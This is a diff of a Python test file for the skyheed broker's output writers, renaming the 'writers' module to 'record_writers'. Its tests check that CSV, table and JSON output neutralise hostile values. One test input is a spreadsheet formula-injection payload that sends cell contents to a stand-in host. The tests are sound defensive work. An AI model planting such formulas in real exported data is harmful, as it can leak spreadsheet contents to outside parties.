@@ -16,7 +16,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from test_subscribe import record
 
-from skyheed.broker import cli, config, logs, writers
+from skyheed.broker import cli, config, logs, record_writers
 from skyheed.broker.errors import ConfigError, PacketError, Reason
 from skyheed.broker.kafka.deadletter import DeadLetter
 from skyheed.broker.local import demo_report
@@ -153,12 +153,12 @@ def test_numbers_and_plain_texts_stay() -> None:
 def test_csv_is_safe_unless_raw_is_asked_for(tmp_path: Path) -> None:
     names = ['=HYPERLINK("http://x/?"&A1,"ok")', EVIL]
     answers = [dataclasses.replace(record(1), object_id=name, ra=-3.2) for name in names]
-    writers.write(answers, "csv", tmp_path / "safe.csv")
+    record_writers.write(answers, "csv", tmp_path / "safe.csv")
     rows = list(csv.DictReader(io.StringIO((tmp_path / "safe.csv").read_bytes().decode(), newline="")))
     assert [row["object_id"] for row in rows] == ["'" + names[0], printable(EVIL)]
     assert {row["ra"] for row in rows} == {"-3.2"}
     assert b"\x1b" not in (tmp_path / "safe.csv").read_bytes()
-    writers.write(answers, "csv", tmp_path / "raw.csv", raw_csv=True)
+    record_writers.write(answers, "csv", tmp_path / "raw.csv", raw_csv=True)
     rows = list(csv.DictReader(io.StringIO((tmp_path / "raw.csv").read_bytes().decode(), newline="")))
     assert [row["object_id"] for row in rows] == names
     assert "--raw-csv" in CliRunner().invoke(cli.skyheed, ["subscribe", "--help"]).output
@@ -170,8 +170,8 @@ def test_csv_is_safe_unless_raw_is_asked_for(tmp_path: Path) -> None:
 def test_table_json_dead_letters_and_books_escape() -> None:
     out = io.StringIO()
     far = dataclasses.replace(record(1), object_id=EVIL, top_class=EVIL, classified_ms=2**62)
-    writers.write_table([far], out)
-    writers.write_json([far], out)
+    record_writers.write_table([far], out)
+    record_writers.write_json([far], out)
     assert len(out.getvalue().splitlines()) == 3
     assert all(line.isprintable() for line in out.getvalue().splitlines())
     letter = DeadLetter("p", 1, "bad_fits", EVIL, "ztf", EVIL, 0, 0, 0, 0, None, b"", ())
